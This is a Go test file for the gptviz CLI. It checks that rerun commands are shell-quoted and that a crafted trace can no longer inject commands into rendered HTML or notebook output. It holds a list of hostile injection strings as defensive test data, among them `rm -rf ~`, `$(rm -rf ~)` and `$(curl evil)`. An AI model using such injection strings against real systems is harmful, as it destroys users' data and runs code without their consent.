package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/gptviz/gptviz/lessons"
	"github.com/gptviz/gptviz/model"
	"github.com/gptviz/gptviz/model/arch"
	"github.com/gptviz/gptviz/model/defaultmodel"
	"github.com/gptviz/gptviz/output"
	"github.com/gptviz/gptviz/viz/viztest"
)

func TestShellQuote(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"plain":             "plain",
		"--top-p":           "--top-p",
		"0.9":               "0.9",
		"1e-06":             "1e-06",
		"path/to/dir-1":     "path/to/dir-1",
		"org/name@main":     "org/name@main",
		"two words":         "'two words'",
		"it's":              `'it'\''s'`,
		"":                  "''",
		"=cmd":              "'=cmd'", // zsh expands a leading =
		"~/x":               "'~/x'",
		"你好":                "'你好'",
		"$(rm -rf /)":       "'$(rm -rf /)'",
		"a;b|c&d`e`":        "'a;b|c&d`e`'",
		"a\nb":              `$'a\nb'`,
		"a\r\tb":            `$'a\r\tb'`,
		"it's\n":            `$'it\'s\n'`,
		`back\slash` + "\n": `$'back\\slash\n'`,
		"\x1b]0;title\a":    `$'\x1b]0;title\x07'`,
		"abc\u202Efed":      `$'abc\xe2\x80\xaefed'`, // right-to-left override
		"line\u2028sep":     `$'line\xe2\x80\xa8sep'`,
		"bad\xffutf8 $x":    `$'bad\xffutf8 $x'`,
		"工作\n记忆":            "$'工作\\n记忆'",
	} {
		got := shellQuote(in)
		if got != want {
			t.Errorf("shellQuote(%q) = %s, want %s", in, got, want)
		}
		if strings.ContainsFunc(got, unicode.IsControl) {
			t.Errorf("shellQuote(%q) = %q holds a control character", in, got)
		}
	}
}

// hostile are strings a shared trace or a user may put where the command
// line shows them.
var hostile = []string{
	"The light",
	"",
	"-1 starts like a flag",
	"it's",
	"The light'\nrm -rf ~ # clean the cache first",
	"x; rm -rf ~",
	"$(rm -rf ~) `id` ${HOME} $HOME",
	"a\\'b\\\\'",
	"\x1b]0;pwned\a\x1b[2J",
	"abc\u202Erm -rf ~\u202C",
	"工作记忆 🦊\r\n\t",
	"bad\xffutf8",
}

// shellWords runs line in bash with gptviz defined as a function that
// prints its arguments, and returns them: what the shell would pass to
// gptviz. Any other command the line ran shows up as extra output.
func shellWords(t *testing.T, line string) []string {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatalf("bash is needed to check shell quoting: %v", err)
	}
	script := `gptviz() { printf '%s\0' "$@"; printf 'END\0'; }; rm() { printf 'INJECTED\0'; }; id() { printf 'INJECTED\0'; }
` + line + "\n"
	cmd := exec.Command(bash, "--norc", "--noprofile", "-c", script)
	cmd.Env = []string{"LC_ALL=C", "HOME=/nonexistent"}
	var out, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("bash: %v: %s", err, stderr.String())
	}
	words := strings.Split(out.String(), "\x00")
	if len(words) < 2 || words[len(words)-2] != "END" || words[len(words)-1] != "" || slices.Contains(words[:len(words)-2], "END") {
		t.Fatalf("line %q ran more than one gptviz command: %q", line, words)
	}
	return words[:len(words)-2]
}

// TestRerunCommand: the command line of every subcommand is one line that
// a shell splits back into exactly the arguments args returns, whatever the
// prompt and model name hold, and report's flags parse those arguments back
// into the same settings.
func TestRerunCommand(t *testing.T) {
	t.Parallel()
	c := arch.Config{NLayer: 12, NHead: 12}
	for i, s := range hostile {
		r := rerun{
			model: s, revision: "v1.0", prompt: s, steps: 7, seed: 42,
			sampling:     model.SamplingParams{Temperature: 1e-6, TopK: 40, TopP: 0.9},
			maxAttention: 64, lang: "zh", format: "ipynb", layers: []int{0, 3}, heads: []int{1}, focus: []int{3, 1},
			reproducible: true,
			overflow:     "slide", continuation: s,
			kvRows: 64, kvFocus: []int{3, 1},
		}
		if i%2 == 1 {
			r.kvRows, r.kvFocus = -1, nil // --kv-rows 0, no --kv-focus
		}
		if s == "" {
			r.model = "" // the embedded default: no --model
		}
		for _, sub := range []string{"report", "generate", "tokens"} {
			line := r.command(sub)
			if strings.ContainsFunc(line, unicode.IsControl) || strings.ContainsRune(line, '\u202E') {
				t.Errorf("%s %q: command %q is not one plain line", sub, s, line)
			}
			if got, want := shellWords(t, line), r.args(sub); !slices.Equal(got, want) {
				t.Errorf("%s %q: the shell reads %q, want %q", sub, s, got, want)
			}
		}
		var mf modelFlags
		var sf sampleFlags
		var rf reportFlags
		var maxAttention int
		var kf recordFlags
		fs := reportFlagSet(&mf, &sf, &rf, &maxAttention, &kf)
		args := r.args("report")
		if err := fs.Parse(args[1:]); err != nil {
			t.Fatalf("%q: report's flags do not parse %q: %v", s, args, err)
		}
		got := rerun{
			model: mf.name, revision: mf.revision, prompt: fs.Arg(0), steps: sf.steps, sampling: sf.p, seed: sf.seed,
			maxAttention: maxAttention, lang: rf.lang, format: rf.format, layers: rf.layers, heads: rf.heads, focus: rf.focus,
			reproducible: rf.reproducible,
			overflow:     sf.overflow, continuation: sf.continuation,
		}
		got = kf.view(got, c)
		if fs.NArg() != 1 || !equalRerun(got, r) {
			t.Errorf("%q: report's flags read %+v (%d arguments), want %+v", s, got, fs.NArg(), r)
		}
	}
}

func equalRerun(a, b rerun) bool {
	return a.model == b.model && a.revision == b.revision && a.prompt == b.prompt && a.steps == b.steps &&
		a.sampling == b.sampling && a.seed == b.seed && a.maxAttention == b.maxAttention && a.lang == b.lang &&
		a.format == b.format && slices.Equal(a.layers, b.layers) && slices.Equal(a.heads, b.heads) && slices.Equal(a.focus, b.focus) &&
		a.overflow == b.overflow && a.continuation == b.continuation &&
		a.reproducible == b.reproducible && a.kvRows == b.kvRows && slices.Equal(a.kvFocus, b.kvFocus)
}

// TestRenderCraftedTraceCannotInjectRerunCommand: a shared trace decided
// the "rerun exactly this report" command: render only checked that
// settings.command started with "gptviz report " and allowed a newline, so
// a crafted trace put `rm -rf ~` into the notebook's shell cell and the
// HTML's rerun box. The command is now rebuilt from the trace's checked
// settings, every argument quoted, on one line; the trace's own command is
// never shown.
func TestRenderCraftedTraceCannotInjectRerunCommand(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for i, s := range []string{
		"The light'\nrm -rf ~ # clean the cache first",
		"$(rm -rf ~) `id`; rm -rf ~",
		"-1\x1b]0;pwned\a\u202Erm -rf ~",
	} {
		tr := viztest.Trace(viztest.Options{Prompt: 4, Steps: 2, NLayer: 2, NHead: 2, Seed: 3})
		tr.Settings.Command = "gptviz report 'The light'\nrm -rf ~ # clean the cache first; $(curl evil)"
		tr.Prompt = s
		tr.Model.Name = s + "; rm -rf ~\n$(id)"
		in := filepath.Join(dir, "crafted.json")
		if err := output.WriteFileAtomic(context.Background(), in, func(w io.Writer) error { return output.WriteJSON(w, tr) }); err != nil {
			t.Fatal(err)
		}
		// A trace that does not record its overflow policy ran slide.
		want := rerun{model: tr.Model.Name, prompt: tr.Prompt, steps: tr.Settings.Steps, seed: tr.Settings.Seed, overflow: "slide",
			sampling: model.SamplingParams{Temperature: tr.Settings.Temperature, TopK: tr.Settings.TopK, TopP: tr.Settings.TopP}}
		for _, format := range []string{"html", "ipynb"} {
			out := filepath.Join(dir, fmt.Sprintf("%d.%s", i, format))
			if _, stderr, code := gptviz(t, "render", "--format", format, "--lang", "zh", "-o", out, in); code != 0 {
				t.Fatalf("%q %s: exit %d: %s", s, format, code, stderr)
			}
			cells := shellCells(t, out, format)
			var rerunCell string
			for _, c := range cells {
				if strings.Contains(c, "gptviz report") {
					rerunCell = c
				}
			}
			lines := strings.Split(rerunCell, "\n")
			var commands []string
			for _, l := range lines {
				if !strings.HasPrefix(l, "#") {
					commands = append(commands, l)
				}
			}
			if len(commands) != 1 {
				t.Fatalf("%q %s: the rerun cell holds %d command lines, want 1: %q", s, format, len(commands), rerunCell)
			}
			v := want
			v.lang = "zh"
			v.format = format
			if got := shellWords(t, commands[0]); !slices.Equal(got, v.args("report")) {
				t.Errorf("%q %s: the rerun line %q runs %q, want %q", s, format, commands[0], got, v.args("report"))
			}
			if strings.Contains(rerunCell, "curl evil") {
				t.Errorf("%q %s: the trace's own command reached the page: %q", s, format, rerunCell)
			}
		}
	}
}

// shellCells returns the source of every code cell in a rendered report
// (raw cells in a notebook).
func shellCells(t *testing.T, path, format string) []string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	if format == "html" {
		for _, m := range regexp.MustCompile(`(?s)<pre><code>(.*?)</code></pre>`).FindAllStringSubmatch(string(b), -1) {
			cells = append(cells, html.UnescapeString(m[1]))
		}
		return cells
	}
	var nb struct {
		Cells []struct {
			CellType string   `json:"cell_type"`
			Source   []string `json:"source"`
		} `json:"cells"`
	}
	if err := json.Unmarshal(b, &nb); err != nil {
		t.Fatal(err)
	}
	for _, c := range nb.Cells {
		if c.CellType == "raw" {
			cells = append(cells, strings.Join(c.Source, ""))
		}
	}
	return cells
}

// TestRerunOfTrace: the settings of a saved trace are checked before they
// become a command line (a crafted trace may hold anything), and errors name
// the trace's fields, not flags.
func TestRerunOfTrace(t *testing.T) {
	t.Parallel()
	tr := viztest.Trace(viztest.Options{Prompt: 4, Steps: 1, NLayer: 2, NHead: 2, Seed: 3})
	tr.Model.Name = defaultmodel.Name
	r, err := rerunOfTrace(tr)
	if err != nil || r.model != "" || r.prompt != tr.Prompt || r.seed != tr.Settings.Seed {
		t.Errorf("rerunOfTrace = %+v, %v; want the default model left out", r, err)
	}
	tr.Settings.TopP = 7
	if _, err := rerunOfTrace(tr); err == nil || !strings.Contains(err.Error(), "top_p 7") {
		t.Errorf("top_p 7: err = %v", err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "bad.json")
	output.WriteFileAtomic(context.Background(), in, func(w io.Writer) error { return output.WriteJSON(w, tr) })
	if _, stderr, code := gptviz(t, "render", in); code != 1 || !strings.Contains(stderr, "bad.json: settings: top_p 7: must be in (0, 1]") {
		t.Errorf("render of a trace with top_p 7: exit %d, %q", code, stderr)
	}
}

// TestFlagError: the libraries' parameter errors reach the user in the
// CLI's flag names, as usage errors; others pass through unchanged.
func TestFlagError(t *testing.T) {
	t.Parallel()
	other := errors.New("disk full")
	for _, tc := range []struct {
		err   error
		want  string
		usage bool
	}{
		{fmt.Errorf("run: %w", &model.ParamError{Param: "top_p", Value: 2.0, Problem: "must be in (0, 1]"}), "--top-p 2: must be in (0, 1]", true},
		{&model.ParamError{Param: "steps", Value: -1, Problem: "must be ≥ 0"}, "--steps -1: must be ≥ 0", true},
		{fmt.Errorf("report: %w", &lessons.OptionError{Option: "lang", Value: `"fr"`, Problem: "want en or zh"}), `--lang "fr": want en or zh`, true},
		{&lessons.OptionError{Option: "static", Value: `"gif"`, Problem: "want svg or png"}, `static "gif": want svg or png`, false},
		{other, "disk full", false},
	} {
		got := flagError(tc.err)
		var u *usageError
		if got.Error() != tc.want || errors.As(got, &u) != tc.usage {
			t.Errorf("flagError(%v) = %v (usage %v), want %q (usage %v)", tc.err, got, errors.As(got, &u), tc.want, tc.usage)
		}
	}
	// Every library parameter a flag sets has its flag in the table.
	for _, p := range []string{"steps", "temperature", "top_k", "top_p", "lang", "layers", "heads", "focus", "overflow", "continuation"} {
		if _, ok := flagFor[p]; !ok {
			t.Errorf("flagFor lacks %q", p)
		}
	}
}
